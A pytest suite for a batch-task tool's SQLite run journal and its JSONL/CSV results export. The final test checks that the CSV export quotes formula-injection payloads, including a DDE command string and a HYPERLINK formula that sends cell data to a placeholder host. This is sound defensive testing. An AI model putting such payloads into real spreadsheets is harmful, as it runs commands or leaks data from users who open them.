"""The run journal (bats.master.state.journal) and the results export (bats.master.state.results), on real SQLite files."""

from __future__ import annotations

import csv
import io
import json
import signal
import sqlite3
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from bats.master.state.journal import JOURNAL_NAME, Journal, JournalError
from bats.master.state.results import export_results

META = {"bag": "/tmp/tasks.txt", "bag_sha256": "ab" * 32, "settings": {"budget": 12.5}, "started_at": 1.5}


def _result(journal: Journal, task_id: int, status: str = "done", **overrides: object) -> None:
    fields: dict[str, object] = {
        "task_id": task_id,
        "status": status,
        "exit_code": 0 if status == "done" else 3,
        "runtime_s": 1.25 * task_id,
        "machine": "local-1",
        "attempts": 1,
        "timed_out": False,
        "stdout": f"out {task_id}\n".encode(),
        "stderr": b"",
        "finished_at": 1000.0 + task_id,
    }
    fields.update(overrides)
    journal.record_result(**fields)  # type: ignore[arg-type]


def _machine(journal: Journal, machine_id: str, session: int = 1, **overrides: object) -> None:
    fields: dict[str, object] = {
        "machine_id": machine_id,
        "cluster": "small",
        "session": session,
        "acquired_at": 10.0,
        "ready_at": None,
        "released_at": None,
        "nt": 0,
        "rt_s": 0.0,
        "uptime_s": 0.0,
        "atus": 1,
        "cost": 0.1,
        "state": "booting",
    }
    fields.update(overrides)
    journal.record_machine(**fields)  # type: ignore[arg-type]


def _count(state_dir: Path, table: str) -> int:
    """Rows visible to an independent connection (what a crash would leave behind)."""
    conn = sqlite3.connect(state_dir / JOURNAL_NAME)
    try:
        return conn.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0]
    finally:
        conn.close()


def test_create_open_round_trip_keeps_meta(tmp_path: Path) -> None:
    state = tmp_path / "run" / "nested"
    with Journal.create(state, "run-42", META) as journal:
        assert journal.run_id == "run-42"
        assert journal.meta["settings"] == {"budget": 12.5}
        journal.set_meta("chosen_option", {"id": 3, "machines": {"small": 4}})
        assert journal.meta["chosen_option"]["id"] == 3
    conn = sqlite3.connect(state / JOURNAL_NAME)
    assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    conn.close()
    with Journal.open(state) as journal:
        assert journal.run_id == "run-42"
        meta = journal.meta
        for key, value in META.items():
            assert meta[key] == value
        assert meta["chosen_option"] == {"id": 3, "machines": {"small": 4}}
        assert meta["run_id"] == "run-42"
        assert isinstance(meta["schema_version"], int)


def test_create_refuses_an_existing_journal(tmp_path: Path) -> None:
    Journal.create(tmp_path, "first", {}).close()
    with pytest.raises(JournalError, match="--resume") as info:
        Journal.create(tmp_path, "second", {})
    assert "\n" not in str(info.value)
    with Journal.open(tmp_path) as journal:
        assert journal.run_id == "first"


def test_buffered_results_are_invisible_until_flush(tmp_path: Path) -> None:
    with Journal.create(tmp_path, "r", {}) as journal:
        for task_id in range(1, 51):
            _result(journal, task_id)
        _machine(journal, "m1")
        assert _count(tmp_path, "results") == 0
        assert _count(tmp_path, "machines") == 0
        assert len(list(journal.results())) == 50  # the writer itself sees its buffer
        journal.flush()
        assert _count(tmp_path, "results") == 50
        assert _count(tmp_path, "machines") == 1
        assert journal.pending == 0
        journal.flush()  # nothing buffered: a no-op


def test_a_task_recorded_twice_keeps_one_row(tmp_path: Path) -> None:
    with Journal.create(tmp_path, "r", {}) as journal:
        _result(journal, 7, "failed", attempts=1)
        journal.flush()
        _result(journal, 7, "done", attempts=2, stdout=b"second")
        assert [r["status"] for r in journal.results()] == ["done"]  # buffer overrides the committed row
        assert list(journal.results(failed_only=True)) == []
        journal.flush()
        _result(journal, 7, "done", attempts=3, stdout=b"third")
        _result(journal, 7, "done", attempts=4, stdout=b"fourth")
    with Journal.open(tmp_path) as journal:
        rows = list(journal.results())
    assert len(rows) == 1
    assert rows[0]["attempts"] == 4 and rows[0]["stdout"] == "fourth"


def test_results_rows_and_finished_tasks(tmp_path: Path) -> None:
    with Journal.create(tmp_path, "r", {}) as journal:
        _result(journal, 5, "failed", exit_code=None, runtime_s=None, timed_out=True, stderr=b"bad \xff byte")
        _result(journal, 2)
        journal.flush()
        _result(journal, 9)
        _result(journal, 1, "failed")
        assert journal.finished_tasks() == {1: "failed", 2: "done", 5: "failed", 9: "done"}
        assert [r["id"] for r in journal.results()] == [1, 2, 5, 9]
        assert [r["id"] for r in journal.results(failed_only=True)] == [1, 5]
    with Journal.open(tmp_path) as journal:
        assert journal.finished_tasks() == {1: "failed", 2: "done", 5: "failed", 9: "done"}
        rows = list(journal.results())
    assert [r["id"] for r in rows] == [1, 2, 5, 9]
    five = rows[2]
    assert five == {
        "id": 5,
        "status": "failed",
        "exit_code": None,
        "runtime_s": None,
        "machine": "local-1",
        "attempts": 1,
        "timed_out": True,
        "stdout": "out 5\n",
        "stderr": "bad \ufffd byte",
        "finished_at": 1005.0,
    }
    conn = sqlite3.connect(tmp_path / JOURNAL_NAME)
    assert conn.execute("SELECT typeof(stdout), typeof(stderr) FROM results WHERE task_id = 5").fetchone() == (
        "blob",
        "blob",
    )
    conn.close()


def test_results_iterate_in_pages_in_order(tmp_path: Path) -> None:
    with Journal.create(tmp_path, "r", {}) as journal:
        for task_id in range(2500, 0, -1):
            _result(journal, task_id, "failed" if task_id % 7 == 0 else "done")
        journal.flush()
        _result(journal, 1401, "failed")  # buffered overrides of committed rows in the middle page
        _result(journal, 1407, "done")
        _result(journal, 3000, "done")
        ids = [r["id"] for r in journal.results()]
        assert ids == [*range(1, 2501), 3000]
        failed = [r["id"] for r in journal.results(failed_only=True)]
        assert failed == sorted([t for t in range(1, 2501) if t % 7 == 0 and t != 1407] + [1401])


def test_record_result_rejects_unknown_status(tmp_path: Path) -> None:
    with Journal.create(tmp_path, "r", {}) as journal:
        with pytest.raises(ValueError):
            _result(journal, 1, "running")
        assert journal.pending == 0


def test_machines_upsert_across_sessions(tmp_path: Path) -> None:
    with Journal.create(tmp_path, "r", {}) as journal:
        assert journal.add_session(100.0) == 1
        _machine(journal, "m1")
        _machine(journal, "m2", acquired_at=11.0)
        journal.flush()
        _machine(journal, "m1", ready_at=40.0, nt=12, rt_s=300.5, uptime_s=330.0, atus=2, cost=0.2, state="running")
    with Journal.open(tmp_path) as journal:
        assert journal.add_session(200.0) == 2
        _machine(journal, "m1", ready_at=40.0, released_at=3590.0, nt=99, atus=1, cost=0.1, state="released")
        _machine(journal, "m3", session=2, acquired_at=5.0, state="running")
        machines = journal.machines()  # buffer included
        assert [m["machine_id"] for m in machines] == ["m1", "m2", "m3"]
    with Journal.open(tmp_path) as journal:
        machines = journal.machines()
    assert [(m["machine_id"], m["session"]) for m in machines] == [("m1", 1), ("m2", 1), ("m3", 2)]
    m1 = machines[0]
    assert m1["nt"] == 99 and m1["state"] == "released" and m1["released_at"] == 3590.0
    assert m1["ready_at"] == 40.0 and m1["cluster"] == "small"
    assert machines[1]["ready_at"] is None
    assert _count(tmp_path, "machines") == 3


def test_sessions_are_numbered_and_committed_at_once(tmp_path: Path) -> None:
    journal = Journal.create(tmp_path, "r", {})
    assert journal.add_session(1.0) == 1
    assert _count(tmp_path, "sessions") == 1
    journal.close()
    for expected in (2, 3):
        with Journal.open(tmp_path) as journal:
            assert journal.add_session(float(expected)) == expected
    assert _count(tmp_path, "sessions") == 3


def test_close_is_idempotent_and_flushes(tmp_path: Path) -> None:
    journal = Journal.create(tmp_path, "r", {})
    _result(journal, 1)
    journal.close()
    journal.close()
    assert journal.closed
    assert _count(tmp_path, "results") == 1
    with pytest.raises(JournalError, match="closed"):
        _result(journal, 2)


def test_disk_full_keeps_the_buffer(tmp_path: Path) -> None:
    with Journal.create(tmp_path, "r", {}) as journal:
        journal.flush()
        conn = journal._conn
        assert conn is not None
        pages = conn.execute("PRAGMA page_count").fetchone()[0]
        conn.execute(f"PRAGMA max_page_count = {pages + 2}")  # stands in for a full disk
        for task_id in range(1, 201):
            _result(journal, task_id, stdout=b"x" * 4000)
        with pytest.raises(JournalError, match="disk full") as info:
            journal.flush()
        assert "\n" not in str(info.value)
        assert journal.pending == 200
        assert _count(tmp_path, "results") == 0
        conn.execute("PRAGMA max_page_count = 1073741823")  # space freed
        journal.flush()
        assert journal.pending == 0
    assert _count(tmp_path, "results") == 200


def test_committed_results_survive_kill_9(tmp_path: Path) -> None:
    script = textwrap.dedent(
        f"""
        import os
        from bats.master.state.journal import Journal
        j = Journal.create({str(tmp_path)!r}, "crash", {{"bag": "tasks.txt"}})
        j.add_session(1.0)
        def rec(t):
            j.record_result(t, "done", 0, 0.5, "m1", 1, False, b"o" * 200, b"", 2.0)
        for t in range(1, 101):
            rec(t)
        j.flush()
        for t in range(101, 106):
            rec(t)
        os.kill(os.getpid(), 9)
        """
    )
    proc = subprocess.run([sys.executable, "-c", script], check=False, capture_output=True, timeout=60)
    assert proc.returncode == -signal.SIGKILL, proc.stderr.decode()
    with Journal.open(tmp_path) as journal:
        assert journal.run_id == "crash"
        finished = journal.finished_tasks()
        assert sorted(finished) == list(range(1, 101))
        assert journal.add_session(3.0) == 2


BAG = "# a bag\necho one\n\necho two\n  # indented comment\necho 'three'\nexit 4\n"
# task ids are line numbers: 2 echo one, 4 echo two, 6 echo 'three', 7 exit 4


def _run_with_results(state: Path) -> None:
    (state / "bag.txt").write_text(BAG)
    with Journal.create(state, "exp", {"bag_sha256": "not checked here"}) as journal:
        _result(journal, 2, stdout=b'one "quoted", comma\n')
        _result(journal, 4, machine="ec2-i-0abc")
        _result(journal, 7, "failed", exit_code=4, attempts=2, timed_out=True, stderr=b"boom\n")
        journal.flush()
        _result(journal, 6)  # close() flushes it


def test_export_jsonl(tmp_path: Path) -> None:
    _run_with_results(tmp_path)
    out = io.StringIO()
    assert export_results(tmp_path, out) == 4
    rows = [json.loads(line) for line in out.getvalue().splitlines()]
    assert [r["id"] for r in rows] == [2, 4, 6, 7]
    assert [r["command"] for r in rows] == ["echo one", "echo two", "echo 'three'", "exit 4"]
    for column in ("id", "command", "exit_code", "runtime_s", "machine", "attempts", "status", "timed_out"):
        assert all(column in r for r in rows)
    assert rows[0]["stdout"] == 'one "quoted", comma\n'
    assert rows[1]["machine"] == "ec2-i-0abc"
    assert rows[3]["timed_out"] is True and rows[3]["stderr"] == "boom\n"

    failed = io.StringIO()
    assert export_results(tmp_path, failed, failed_only=True, fmt="jsonl") == 1
    (only,) = [json.loads(line) for line in failed.getvalue().splitlines()]
    assert (only["id"], only["command"], only["exit_code"], only["attempts"]) == (7, "exit 4", 4, 2)


def test_export_csv(tmp_path: Path) -> None:
    _run_with_results(tmp_path)
    out = io.StringIO()
    assert export_results(tmp_path, out, fmt="csv") == 4
    reader = csv.DictReader(io.StringIO(out.getvalue()))
    assert reader.fieldnames is not None
    for column in ("id", "command", "exit_code", "runtime_s", "machine", "attempts", "status", "timed_out", "stdout"):
        assert column in reader.fieldnames
    rows = list(reader)
    assert [r["id"] for r in rows] == ["2", "4", "6", "7"]
    assert rows[0]["command"] == "echo one"
    assert rows[0]["stdout"] == 'one "quoted", comma\n'
    assert float(rows[1]["runtime_s"]) == 5.0
    assert rows[3]["exit_code"] == "4" and rows[3]["timed_out"] == "true" and rows[3]["status"] == "failed"

    failed = io.StringIO()
    assert export_results(tmp_path, failed, failed_only=True, fmt="csv") == 1
    rows = list(csv.DictReader(io.StringIO(failed.getvalue())))
    assert [(r["id"], r["command"]) for r in rows] == [("7", "exit 4")]


def test_export_of_a_missing_state_dir_or_journal(tmp_path: Path) -> None:
    with pytest.raises(JournalError, match="no such state dir"):
        export_results(tmp_path / "nope", io.StringIO())
    with pytest.raises(JournalError, match=JOURNAL_NAME):
        export_results(tmp_path, io.StringIO())
    with pytest.raises(ValueError):
        export_results(tmp_path, io.StringIO(), fmt="xml")


def test_open_refuses_files_that_are_not_journals(tmp_path: Path) -> None:
    with pytest.raises(JournalError, match="no such state dir"):
        Journal.open(tmp_path / "missing")
    with pytest.raises(JournalError, match="missing"):
        Journal.open(tmp_path)

    text = tmp_path / "text"
    text.mkdir()
    (text / JOURNAL_NAME).write_text("this is not a database, just some text " * 20)
    with pytest.raises(JournalError, match="not a BaTS journal"):
        Journal.open(text)

    other = tmp_path / "other"
    other.mkdir()
    conn = sqlite3.connect(other / JOURNAL_NAME)
    conn.execute("CREATE TABLE meta (key TEXT PRIMARY KEY, value TEXT)")
    conn.execute("""INSERT INTO meta VALUES ('run_id', '"x"')""")
    conn.commit()
    conn.close()
    with pytest.raises(JournalError, match="not a BaTS journal") as info:
        Journal.open(other)
    assert "\n" not in str(info.value)
    conn = sqlite3.connect(other / JOURNAL_NAME)
    assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "delete"  # the foreign file was left alone
    conn.close()

    empty = tmp_path / "empty"
    empty.mkdir()
    (empty / JOURNAL_NAME).write_bytes(b"")
    with pytest.raises(JournalError, match="empty journal"):
        Journal.open(empty)


def test_the_journal_and_its_folder_are_private_and_survive_a_lost_wal(tmp_path: Path) -> None:
    import stat

    state = tmp_path / "run"
    journal = Journal.create(state, "r1", {"tasks": 3})
    assert stat.S_IMODE(state.stat().st_mode) == 0o700
    assert stat.S_IMODE((state / JOURNAL_NAME).stat().st_mode) == 0o600
    journal.record_result(1, "done", 0, 0.1, "m1", 1, False, b"out", b"", 1.0)
    journal.checkpoint()  # a phase change: the state so far is in the main file
    journal.set_meta("phase", "executing")
    journal.flush()
    wal = Path(str(state / JOURNAL_NAME) + "-wal")
    assert wal.exists() and stat.S_IMODE(wal.stat().st_mode) == 0o600
    # the WAL lost while the master is down: what was checkpointed is still there
    import shutil
    copy = tmp_path / "copy"
    copy.mkdir()
    shutil.copyfile(state / JOURNAL_NAME, copy / JOURNAL_NAME)
    reopened = Journal.open(copy)
    assert reopened.meta["tasks"] == 3 and reopened.finished_tasks() == {1: "done"}
    reopened.close()
    journal.close()
    assert not wal.exists() or wal.stat().st_size == 0  # the exit checkpoint emptied it


def test_a_journal_whose_records_were_only_in_a_lost_wal_says_so(tmp_path: Path) -> None:
    state = tmp_path / "run"
    state.mkdir()
    conn = sqlite3.connect(state / JOURNAL_NAME)
    conn.execute("PRAGMA journal_mode=WAL")
    conn.close()
    with pytest.raises(JournalError, match="write-ahead log .* is missing"):
        Journal.open(state)


def test_a_journal_of_the_first_schema_is_brought_up_to_date_on_open(tmp_path):

    with Journal.create(tmp_path, "run-v1", {}) as journal:
        journal.record_machine("m-1", "c", 1, 0.0, 1.0, 5.0, 3, 2.5, 5.0, 1, 0.5, "gone")
        journal.flush()
    conn = sqlite3.connect(tmp_path / "journal.sqlite")
    conn.execute("ALTER TABLE machines DROP COLUMN reason")  # as the first BaTS wrote it
    conn.execute("PRAGMA user_version=1")
    conn.commit()
    conn.close()
    with Journal.open(tmp_path) as journal:
        assert journal.machines()[0]["reason"] == "" and journal.machines()[0]["nt"] == 3
        journal.record_machine("m-1", "c", 1, 0.0, 1.0, 5.0, 3, 2.5, 5.0, 1, 0.5, "gone", "bag done")
        journal.flush()
        assert journal.meta["schema_version"] == 2
    with Journal.open(tmp_path) as journal:
        assert journal.machines()[0]["reason"] == "bag done"
        assert journal.meta["schema_version"] == 2


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(tmp_path: Path) -> None:
    state = tmp_path
    (state / "bag.txt").write_text("=cmd|' /C calc'!A0\necho fine\n")
    with Journal.create(state, "csv", {"bag_sha256": "not checked here"}) as journal:
        _result(journal, 1, stdout=b'=HYPERLINK("http://x.example/?"&A1)', stderr=b"@SUM(1)")
        _result(journal, 2, "failed", exit_code=-1, stdout=b"+1", stderr=b"-2\tx")
    out = io.StringIO()
    export_results(state, out, fmt="csv")
    first, second = csv.DictReader(io.StringIO(out.getvalue()))
    assert first["command"] == "'=cmd|' /C calc'!A0" and first["stdout"].startswith("'=HYPERLINK")
    assert first["stderr"] == "'@SUM(1)"
    assert (second["stdout"], second["stderr"], second["exit_code"]) == ("'+1", "'-2\tx", "-1")  # numbers stay numbers
    assert second["command"] == "echo fine"
    json_out = io.StringIO()
    export_results(state, json_out)  # JSON lines are data, not formulas: as they were
    assert json.loads(json_out.getvalue().splitlines()[0])["stdout"].startswith("=HYPERLINK")
